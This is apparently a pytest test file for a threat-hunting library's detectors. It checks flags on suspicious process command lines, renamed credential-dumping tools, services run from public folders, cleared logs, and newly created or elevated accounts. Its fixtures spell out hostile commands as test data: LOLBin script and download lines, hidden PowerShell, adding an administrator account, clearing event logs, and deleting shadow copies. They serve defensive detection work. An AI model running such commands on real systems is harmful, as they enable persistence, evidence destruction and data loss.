"""What a command line, a program's name and a change say by themselves; each line written for this, with its kind."""

from __future__ import annotations

from typing import Any

import pytest

from graphhunt.incidents.leads.changes import change_leads
from graphhunt.incidents.leads.commands import command_leads

from .made import commands, process, tables


@pytest.mark.parametrize(
    ("name", "line", "kind"),
    [
        ("mshta.exe", "mshta vbscript:Execute(1)", "system_program_script"),
        ("rundll32.exe", 'rundll32 javascript:"\\..\\mshtml"', "system_program_script"),
        ("regsvr32.exe", "regsvr32 /s /i:C:\\a.sct scrobj.dll", "system_program_script"),
        ("certutil.exe", "certutil -decode a.txt a.exe", "system_program_script"),
        ("wmic.exe", 'wmic os get /format:"https://192.0.2.1/a.xsl"', "download"),
        ("rundll32.exe", "rundll32 url.dll,OpenURL http://192.0.2.1/a.hta", "download"),
        ("powershell.exe", "powershell -NoP -W Hidden -File a.ps1", "hidden_command"),
        ("powershell.exe", "powershell -windowstyle 1 a.ps1", "hidden_command"),
        ("net.exe", "net user helper Secret1! /add", "account_command"),
        ("net1.exe", "net1 localgroup Administrators helper /ADD", "account_command"),
        ("useradd", "useradd -m helper", "account_command"),
        ("wevtutil.exe", "wevtutil cl Security", "log_clear_command"),
        ("powershell.exe", "powershell Clear-EventLog -LogName System", "log_clear_command"),
        ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No", "copies_deleted"),
        ("powershell.exe", "powershell Get-WmiObject Win32_Shadowcopy | % { $_.Delete() }", "copies_deleted"),
        ("rar.exe", "rar a -hpSecret out.rar C:\\data", "locked_archive"),
        ("7z.exe", "7z a -pSecret -mhe out.7z data", "locked_archive"),
        ("cmd.exe", "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1.2 2>&1", "remote_command"),
        ("cmd.exe", '"C:\\Windows\\System32\\cmd.exe" /Q /c dir > \\\\localhost\\C$\\out', "remote_command"),
        ("cmd.exe", "C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\a.bat", "remote_command"),
    ],
)
def test_a_command_line_says_what_it_was_for(name: str, line: str, kind: str) -> None:
    assert [lead.kind for lead in command_leads(commands(process(name, line)))] == [kind]


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("net.exe", "net user helper"),
        ("net.exe", "net use z: \\\\fs\\share /persistent:yes"),
        ("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL"),
        ("powershell.exe", "powershell -WorkingDirectory C:\\hidden -File a.ps1"),
        ("certutil.exe", "certutil -verify a.cer"),
        ("wevtutil.exe", "wevtutil qe Security /c:1"),
        ("bcdedit.exe", "bcdedit /enum"),
        ("7z.exe", "7z x -oC:\\out a.7z"),
        ("rar.exe", "rar a out.rar C:\\projects"),
        ("vssadmin.exe", "vssadmin list shadows"),
        ("cmd.exe", "cmd.exe /c dir > \\\\fs\\share\\list.txt"),
        ("cmd.exe", "cmd.exe /Q /c C:\\jobs\\nightly.bat"),
        ("cmd.exe", "cmd.exe /Q /c copy \\\\fs\\c$\\list.txt"),
        ("svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ],
)
def test_everyday_commands_say_nothing(name: str, line: str) -> None:
    assert not list(command_leads(commands(process(name, line))))


def test_a_tool_is_known_by_the_name_it_was_built_under_and_by_its_imports() -> None:
    renamed = process("update.exe", None, original_file_name="mimikatz.exe")
    dumper = process("a.exe", None, imphash="09D278F9DE118EF09163C6140255C690")
    other = process("notepad.exe", None, original_file_name="NOTEPAD.EXE", imphash="00")
    found = [(lead.facts["tool"], lead.facts["by"]) for lead in command_leads(commands(renamed, dumper, other))]
    assert found == [
        ("Mimikatz (S0002)", "mimikatz.exe"),
        ("Dumpert", "imphash 09d278f9de118ef09163c6140255c690"),
    ]


def test_a_service_that_runs_from_a_folder_of_everybody() -> None:
    paths = {
        "a.exe": r"C:\Users\Public\a.exe", "b.exe": r"C:\Windows\Temp\b.exe",
        "c.exe": r"C:\ProgramData\Microsoft\Windows Defender\Platform\4\c.exe", "d.exe": r"C:\Program Files\d.exe",
    }  # fmt: skip
    run = [process(name, None, path=path) for name, path in paths.items()]
    by_hand = process("e.exe", None, path=r"C:\Users\Public\e.exe")
    services = process("services.exe", None, path=r"C:\Windows\System32\services.exe")
    spawned = [{"id": one["id"], "from_id": services["id"], "to_id": one["id"], "evidence": ["e"]} for one in run]
    found = command_leads(commands(services, by_hand, *run, SPAWNED=spawned))
    assert [(lead.kind, lead.facts["program"]) for lead in found] == [
        ("service_in_user_folder", "a.exe"),
        ("service_in_user_folder", "b.exe"),
    ]


def changed(kind: str, **more: Any) -> dict[str, Any]:
    return {"id": "r", "from_id": "ann", "to_id": "m", "start": 5, "evidence": ["e"], **more} | {"from_label": "User"}


def test_a_cleared_log_is_of_the_session_that_cleared_it() -> None:
    row = changed("CHANGED_SETTING", what="log", operation="clear", target="Security", logon_id="0x1f")
    audit = changed("CHANGED_SETTING", id="q", what="audit policy", operation="change")
    session = {"id": "s", "from_id": "ann", "to_id": "m", "start": 1, "logon_id": "0x1f", "logon_session_id": "sid"}
    (lead,) = change_leads(tables(CHANGED_SETTING=[row, audit], LOGGED_ON=[session]))
    assert (lead.kind, lead.vertex, lead.machine, lead.account) == ("log_cleared", "session|sid", "m", "ann")
    assert lead.evidence == ("e",)


def test_accounts_that_are_made_and_raised() -> None:
    made = changed("MANAGED", to_id="eve", to_label="User", action="create", machine_id="dc", success=True)
    joined = changed("MANAGED", id="c", to_id="ws9$", to_label="User", action="create", machine_id="dc")
    raised = changed("MANAGED", id="g", to_id="g1", action="add-member", member_id="eve", machine_id="dc")
    other = changed("MANAGED", id="h", to_id="g2", action="add-member", member_id="eve", machine_id="dc")
    users = [{"id": "eve", "kind": "person"}, {"id": "ws9$", "kind": "machine"}]
    groups = [{"id": "g1", "name": "Domain Admins", "sid": "S-1-5-21-1-2-3-512"},
              {"id": "g2", "name": "Staff", "sid": "S-1-5-21-1-2-3-1604"}]  # fmt: skip
    found = list(change_leads(tables(MANAGED=[made, joined, raised, other], User=users, Group=groups)))
    assert [(lead.kind, lead.machine) for lead in found] == [("account_made", "dc"), ("account_raised", "dc")]
